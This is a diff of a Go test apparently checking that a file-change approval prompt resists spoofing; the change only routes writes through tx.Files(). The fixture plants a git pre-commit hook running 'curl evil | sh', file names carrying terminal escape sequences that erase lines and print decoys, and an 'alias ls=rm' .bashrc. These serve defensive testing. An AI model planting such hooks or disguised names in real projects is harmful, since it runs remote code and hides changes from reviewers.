@@ -52,8 +52,8 @@ func TestAskPromptSpoofing(t *testing.T) {
 			t.Fatal(err)
 		}
 	}
-	must(tx.MkdirAll(".git/hooks", 0o755))
-	must(tx.WriteFile(".git/hooks/pre-commit", []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755))
+	must(tx.Files().MkdirAll(".git/hooks", 0o755))
+	must(tx.Files().WriteFile(".git/hooks/pre-commit", []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755))
 	spoofs := []string{
 		"z\x1b[1A\x1b[2K\rREADME.md (12 bytes)", // cursor up, erase the hook's line
 		"zz\x1b[2K\r  write notes.txt",          // erase this line, print a decoy
@@ -64,12 +64,12 @@ func TestAskPromptSpoofing(t *testing.T) {
 		"caf\u00e9 \"quoted\" back\\slash",      // printable, but not plain
 	}
 	for _, name := range spoofs {
-		must(tx.WriteFile(name, []byte("x"), 0o644))
+		must(tx.Files().WriteFile(name, []byte("x"), 0o644))
 	}
-	must(tx.MkdirAll(".github/workflows", 0o755))
-	must(tx.WriteFile(".github/workflows/ci.yml", []byte("on: push"), 0o644))
-	must(tx.WriteFile(".bashrc", []byte("alias ls=rm"), 0o644))
-	must(tx.WriteFile("run.sh", []byte("#!/bin/sh"), 0o755))
+	must(tx.Files().MkdirAll(".github/workflows", 0o755))
+	must(tx.Files().WriteFile(".github/workflows/ci.yml", []byte("on: push"), 0o644))
+	must(tx.Files().WriteFile(".bashrc", []byte("alias ls=rm"), 0o644))
+	must(tx.Files().WriteFile("run.sh", []byte("#!/bin/sh"), 0o755))
 	cs, err := tx.Diff()
 	must(err)
 
